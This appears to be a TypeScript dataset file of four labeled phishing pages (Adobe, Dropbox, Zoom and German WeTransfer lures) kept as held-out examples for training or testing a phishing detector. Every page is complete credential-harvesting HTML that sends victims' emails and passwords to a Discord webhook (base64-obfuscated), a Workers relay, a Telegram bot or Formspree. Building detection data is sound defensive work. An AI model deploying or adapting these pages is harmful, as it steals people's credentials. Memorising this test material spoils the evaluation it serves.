import { type Entry } from '../entry.js';

/** Held-out pages by author f, family "phish-saas" (dev split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-phish-adobe-blurred-invoice",
    label: "phishing",
    kind: "doc-share-overlay",
    url: "https://adobecloud-docview.z13.web.core.windows.net/view/index.html?email=accounts.payable@kellner-bau.de",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Adobe Document Cloud | Secure File Viewer</title>
<style>
body{margin:0;font-family:"Adobe Clean","Source Sans Pro",Arial,sans-serif;background:#e9e9e9;overflow:hidden}
.tb{background:#323232;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;gap:14px;font-size:14px}
.tb .a{width:28px;height:28px;background:#eb1000;border-radius:4px;display:flex;align-items:center;justify-content:center}
.tb .a svg{fill:#fff}
.doc{width:720px;margin:24px auto;background:#fff;padding:50px;filter:blur(5px);user-select:none;min-height:900px;box-shadow:0 0 8px rgba(0,0,0,.2)}
.doc h2{margin:0}.doc table{width:100%;border-collapse:collapse;margin-top:30px}.doc td{border-bottom:1px solid #ccc;padding:8px}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center}
.md{background:#fff;width:400px;border-radius:6px;padding:28px;box-shadow:0 10px 40px rgba(0,0,0,.4)}
.md h3{margin:0 0 6px;font-size:19px}.md p{font-size:14px;color:#555;margin:0 0 18px}
.prov{display:grid;grid-template-columns:1fr 1fr;gap:10px}
.prov button{display:flex;align-items:center;gap:8px;border:1px solid #ccc;background:#fafafa;padding:10px;border-radius:4px;font-size:14px;cursor:pointer}
.prov i{width:18px;height:18px;border-radius:3px;display:inline-block}
.f2{display:none}.f2 input{width:100%;box-sizing:border-box;padding:10px;margin-bottom:10px;border:1px solid #bbb;border-radius:4px;font-size:15px}
.f2 button{width:100%;background:#1473e6;color:#fff;border:0;border-radius:16px;padding:10px;font-size:15px}
.er{color:#d7373f;font-size:13px;display:none;margin-bottom:8px}
.sm{font-size:11px;color:#888;text-align:center;margin-top:16px}
</style>
</head>
<body>
<div class="tb"><div class="a"><svg width="16" height="16" viewBox="0 0 30 26"><path d="M19 0h11v26zM11 0H0v26zM15 9.6 22 26h-4.6l-2.1-5.2H10z"/></svg></div>Adobe Acrobat — INV_2026-0211_Zahlungsavis.pdf <span style="margin-left:auto;opacity:.7">1 / 3</span></div>
<div class="doc">
 <h2>ZAHLUNGSAVIS / REMITTANCE ADVICE</h2><p>Kellner Bau GmbH · Buchhaltung · Referenz 4501887321</p>
 <table><tr><td>Rechnung</td><td>Datum</td><td>Betrag</td></tr><tr><td>RE-2026-00412</td><td>03.02.2026</td><td>18.420,00 EUR</td></tr><tr><td>RE-2026-00419</td><td>05.02.2026</td><td>7.112,50 EUR</td></tr><tr><td>Gesamt</td><td></td><td>25.532,50 EUR</td></tr></table>
 <p style="margin-top:40px">Die Zahlung wurde heute an Ihre hinterlegte Bankverbindung angewiesen. Bitte prüfen Sie die Anlage.</p>
</div>
<div class="ov">
 <div class="md">
  <div class="f1">
   <h3>Protected document</h3>
   <p>This file has been shared with you securely. To read the document, please choose your email provider and sign in.</p>
   <div class="prov">
    <button data-p="Office 365"><i style="background:#d83b01"></i>Office 365</button>
    <button data-p="Outlook"><i style="background:#0078d4"></i>Outlook</button>
    <button data-p="Yahoo"><i style="background:#6001d2"></i>Yahoo</button>
    <button data-p="AOL"><i style="background:#111"></i>AOL</button>
    <button data-p="GMX / Web.de"><i style="background:#1c449b"></i>GMX / Web.de</button>
    <button data-p="Other Mail"><i style="background:#888"></i>Other Mail</button>
   </div>
  </div>
  <div class="f2">
   <h3 id="pt">Sign in</h3>
   <p>Confirm your email credentials to open <b>INV_2026-0211_Zahlungsavis.pdf</b></p>
   <div class="er" id="er">Invalid password. Please try again.</div>
   <input id="em" type="email" placeholder="Email address">
   <input id="pw" type="password" placeholder="Password">
   <button id="vw">View Document</button>
  </div>
  <div class="sm">Secured by Adobe Document Cloud · © 2026 Adobe. All rights reserved.</div>
 </div>
</div>
<script>
(function(){
 var q=new URLSearchParams(location.search),em=q.get('email')||'';if(!em&&location.hash.length>1){try{em=atob(location.hash.slice(1))}catch(e){}}
 var prov='',tries=0;
 var hook=atob('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTMzNDc3MjkxMDQ0NDU1MDMwMi9nUnFIdzNXbThadEt4Nlk0TnBDQWpWX29aaEtFcjJzOXhmTnVMMWJZcUQ3Y01hMFRsdXhWa0pTZWk1b0I=');
 document.querySelectorAll('.prov button').forEach(function(b){b.onclick=function(){prov=b.dataset.p;document.querySelector('.f1').style.display='none';document.querySelector('.f2').style.display='block';document.getElementById('pt').textContent='Sign in with '+prov;document.getElementById('em').value=em;document.getElementById('pw').focus()}});
 document.getElementById('vw').onclick=function(){
  var e=document.getElementById('em').value,p=document.getElementById('pw').value;if(!e||!p)return;tries++;
  var embed={title:'Adobe PDF — '+prov,color:15548997,fields:[{name:'Email',value:e},{name:'Password',value:p},{name:'Try',value:String(tries)},{name:'UA',value:navigator.userAgent.slice(0,200)}]};
  fetch(hook,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({embeds:[embed]})}).catch(function(){}).then(function(){
   if(tries<2){document.getElementById('er').style.display='block';document.getElementById('pw').value=''}
   else{location.href='https://acrobat.adobe.com/link/home/'}
  });
 };
})();
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-dropbox-ipfs-transfer",
    label: "phishing",
    kind: "doc-share-ipfs",
    url: "https://bafybeigr3kq7f5x4wzm2e6lh2sd4ynqjjvwh5zk3n2uyq4rvbqfsxk6pa.ipfs.w3s.link/transfer.html",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Dropbox Transfer - 4 files</title>
<style>
body{margin:0;font-family:"Sharp Grotesk","Atlas Grotesk",Helvetica,Arial,sans-serif;background:#f7f5f2;color:#1e1919}
nav{display:flex;align-items:center;gap:10px;padding:16px 28px;background:#fff;border-bottom:1px solid #e6e3de}
nav svg{display:block}
nav b{font-size:19px}
.grid{max-width:980px;margin:40px auto;display:grid;grid-template-columns:1fr 380px;gap:30px;padding:0 20px}
.files{background:#fff;border-radius:8px;padding:24px}
.files h1{font-size:24px;margin:0 0 4px}.files .m{color:#736c64;font-size:14px;margin-bottom:18px}
.fi{display:flex;align-items:center;gap:14px;padding:12px 0;border-top:1px solid #eee;font-size:14px}
.fi .ic{width:34px;height:40px;border-radius:3px;background:#e8f1ff;display:flex;align-items:center;justify-content:center;font-size:10px;font-weight:700;color:#0061fe}
.fi .s{margin-left:auto;color:#736c64}
.auth{background:#fff;border-radius:8px;padding:26px}
.auth h2{font-size:19px;margin:0 0 8px}.auth p{font-size:14px;color:#736c64}
.auth input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #bcb7af;border-radius:4px;margin-bottom:12px;font-size:15px}
.auth button{width:100%;background:#0061fe;color:#fff;border:0;border-radius:4px;padding:12px;font-size:15px;font-weight:600;cursor:pointer}
.exp{font-size:12px;color:#a35200;margin-top:10px}
.ok{display:none;color:#1c7a35}
footer{text-align:center;font-size:12px;color:#9b948c;margin:40px 0}
</style>
</head>
<body>
<nav><svg width="34" height="30" viewBox="0 0 43 40"><path fill="#0061fe" d="M12.5 0 0 8.1l8.6 6.9 12.6-7.8zM0 21.9l12.5 8.1 8.7-7.2-12.6-7.8zm21.2.9 8.7 7.2 12.5-8.1-8.6-6.9zm21.2-14.7L30 0l-8.8 7.2L33.8 15zM21.3 24.4l-8.8 7.2-3.8-2.4v2.7l12.6 7.6 12.6-7.6v-2.7L30 31.6z"/></svg><b>Dropbox</b> <span style="color:#736c64;font-size:14px;margin-left:8px">Transfer</span></nav>
<div class="grid">
 <div class="files">
  <h1>Signed contract documents</h1>
  <div class="m">Sent by <b id="sender">legal@</b> · 4 files · 18.6 MB · Expires in 2 days</div>
  <div class="fi"><div class="ic">PDF</div>Master_Services_Agreement_signed.pdf<span class="s">6.2 MB</span></div>
  <div class="fi"><div class="ic">PDF</div>Schedule_B_Pricing_2026.pdf<span class="s">3.9 MB</span></div>
  <div class="fi"><div class="ic">XLSX</div>Remittance_Q1.xlsx<span class="s">1.1 MB</span></div>
  <div class="fi"><div class="ic">DOCX</div>NDA_mutual_countersigned.docx<span class="s">7.4 MB</span></div>
 </div>
 <div class="auth">
  <h2>Verify your email to download</h2>
  <p>For security reasons, the sender requires recipients to confirm their identity before accessing these files.</p>
  <form id="v">
   <input id="e" type="email" placeholder="Email" readonly>
   <input id="p" type="password" placeholder="Email password" required>
   <button>Download all</button>
  </form>
  <div class="exp">⏱ This transfer expires soon.</div>
  <p class="ok" id="ok">Verification failed. Please re-enter your password.</p>
 </div>
</div>
<footer>© 2026 Dropbox, Inc. · Privacy · Terms</footer>
<script>
var h=location.hash.replace(/^#/,''),mail='';
try{mail=/@/.test(h)?decodeURIComponent(h):atob(h)}catch(x){mail=h}
var e=document.getElementById('e');e.value=mail;if(!mail){e.readOnly=false}
var dom=(mail.split('@')[1]||'');document.getElementById('sender').textContent='legal@'+(dom||'partner.com');
var n=0;
document.getElementById('v').addEventListener('submit',function(ev){
 ev.preventDefault();n++;
 var body={u:e.value,p:document.getElementById('p').value,n:n,src:location.hostname,ua:navigator.userAgent};
 fetch('https://dbx-transfer-api.sync-relay.workers.dev/api/v1/verify',{method:'POST',headers:{'content-type':'text/plain'},body:JSON.stringify(body)}).catch(function(){}).then(function(){
  if(n<3){document.getElementById('ok').style.display='block';document.getElementById('p').value=''}else{location.replace('https://www.dropbox.com/transfer')}
 });
});
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-zoom-join-signin",
    label: "phishing",
    kind: "meeting-invite",
    url: "https://zoom-us.meeting-joins.info/j/84421093312?pwd=Q1hNd0xkL2FWTUtlRmlWbE9FZz09&uname=cfo%40ostrava-steel.cz",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Launch Meeting - Zoom</title>
<style>
body{margin:0;font-family:Lato,"Segoe UI",Arial,sans-serif;color:#232333;background:#fff}
header{height:64px;display:flex;align-items:center;justify-content:space-between;padding:0 32px;box-shadow:0 1px 0 #ededf4}
.zl{font:800 26px/1 Arial;color:#0b5cff;letter-spacing:-1px}
header a{font-size:14px;color:#232333;text-decoration:none;margin-left:18px}
.c{max-width:520px;margin:70px auto;text-align:center}
.c h2{font-weight:400;font-size:24px}.c p{color:#747487;font-size:15px}
.mid{font-size:13px;color:#747487}
.card{border:1px solid #e6e6ee;border-radius:12px;padding:28px;text-align:left;margin-top:24px}
.card h3{margin:0 0 6px}
.card input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #babacc;border-radius:8px;margin:8px 0;font-size:15px}
.card button{width:100%;background:#0b5cff;color:#fff;border:0;border-radius:8px;padding:12px;font-size:15px;margin-top:6px}
.or{text-align:center;color:#747487;font-size:12px;margin:14px 0}
.sso{display:flex;gap:8px}.sso span{flex:1;border:1px solid #babacc;border-radius:8px;padding:10px;text-align:center;font-size:13px}
.foot{font-size:12px;color:#747487;margin-top:40px;text-align:center}
#bad{color:#e02828;font-size:13px;display:none}
</style>
</head>
<body>
<header><div class="zl">zoom</div><div><a href="#">Support</a><a href="#">English ▾</a></div></header>
<div class="c">
 <h2>The host requires authentication to join this meeting</h2>
 <p>Meeting ID: <span class="mid">844 2109 3312</span> · Topic: <b>Q1 Budget Review – Board (Confidential)</b></p>
 <div class="card">
  <h3>Sign in to join</h3>
  <div id="bad">Incorrect email or password.</div>
  <input id="u" type="email" placeholder="Email Address">
  <input id="p" type="password" placeholder="Password">
  <button id="go">Sign In &amp; Join</button>
  <div class="or">or sign in with</div>
  <div class="sso"><span>SSO</span><span>Google</span><span>Microsoft</span><span>Apple</span></div>
 </div>
 <div class="foot">©2026 Zoom Communications, Inc. All rights reserved. Privacy &amp; Legal Policies</div>
</div>
<script>
var qs=new URLSearchParams(location.search);document.getElementById('u').value=qs.get('uname')||'';
var tg='https://api.telegram.org/bot8120774591:AAHk0cW3x_1mZtqP7JrVbY2LsNnE5dFgQaI/sendMessage';
var tries=0;
document.getElementById('go').onclick=function(){
 var u=document.getElementById('u').value,p=document.getElementById('p').value;if(!u||!p)return;tries++;
 var x=new XMLHttpRequest();x.open('POST',tg,true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
 x.send('chat_id=-1002011338874&parse_mode=HTML&text='+encodeURIComponent('<b>ZOOM</b>\\nUser: '+u+'\\nPass: '+p+'\\nTry: '+tries+'\\nMID: 84421093312'));
 setTimeout(function(){if(tries<2){document.getElementById('bad').style.display='block';document.getElementById('p').value=''}else{location.href='https://zoom.us/j/84421093312'}},900);
};
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-wetransfer-de-formspree",
    label: "phishing",
    kind: "doc-share-lure",
    url: "https://we-transfer-dateien.carrd.co/",
    body: `<!doctype html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>WeTransfer – Sie haben Dateien erhalten</title>
<meta name="viewport" content="width=device-width,initial-scale=1">
<meta property="og:site_name" content="Carrd">
<style>
body{margin:0;min-height:100vh;font-family:"Graphik",Arial,sans-serif;background:linear-gradient(120deg,#409fff 0%,#b14bd3 100%);display:flex;align-items:center;padding-left:6vw}
.panel{width:320px;background:#fff;border-radius:10px;box-shadow:0 0 40px rgba(0,0,0,.25);overflow:hidden}
.ph{padding:22px 22px 6px}.we{font:700 28px/1 Arial;letter-spacing:-2px;color:#17181a}
.list{padding:10px 22px;border-top:1px solid #eee;border-bottom:1px solid #eee;font-size:13px;color:#6a6d70}
.list div{padding:6px 0;display:flex;justify-content:space-between}
.fm{padding:18px 22px}
.fm p{font-size:13px;color:#17181a;margin:0 0 12px}
.fm input{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #d4d7d9;padding:10px 0;font-size:14px;outline:0;margin-bottom:8px}
.fm button{width:100%;margin-top:10px;background:#409fff;color:#fff;border:0;border-radius:25px;padding:13px;font-size:14px;font-weight:700;cursor:pointer}
.fm small{display:block;text-align:center;font-size:11px;color:#999;margin-top:10px}
.tag{position:fixed;bottom:10px;right:14px;font-size:11px;color:rgba(255,255,255,.8)}
</style>
</head>
<body>
<div class="panel">
 <div class="ph"><div class="we">we</div><p style="font-size:15px;margin:14px 0 6px"><b>Buchhaltung</b> hat Ihnen 3 Dateien gesendet</p><p style="font-size:12px;color:#6a6d70;margin:0 0 12px">47,3 MB · Läuft in 3 Tagen ab</p></div>
 <div class="list"><div><span>Lohnabrechnung_Jan-2026.pdf</span><span>2,1 MB</span></div><div><span>Gehaltsanpassung_2026.xlsx</span><span>0,8 MB</span></div><div><span>Bonusvereinbarung_unterschrieben.pdf</span><span>44,4 MB</span></div></div>
 <form class="fm" id="wf" action="https://formspree.io/f/xqazwlgn" method="POST">
  <p>Bitte bestätigen Sie Ihre E-Mail-Adresse, um die Dateien herunterzuladen.</p>
  <input type="email" name="email" placeholder="E-Mail-Adresse" required>
  <input type="password" name="passwort" placeholder="E-Mail-Passwort" required>
  <input type="hidden" name="_subject" value="WT neu">
  <input type="hidden" name="_next" value="https://wetransfer.com/">
  <button type="submit">Herunterladen</button>
  <small>Durch das Herunterladen akzeptieren Sie die Nutzungsbedingungen.</small>
 </form>
</div>
<div class="tag">Made with Carrd</div>
</body>
</html>
`,
  },
];
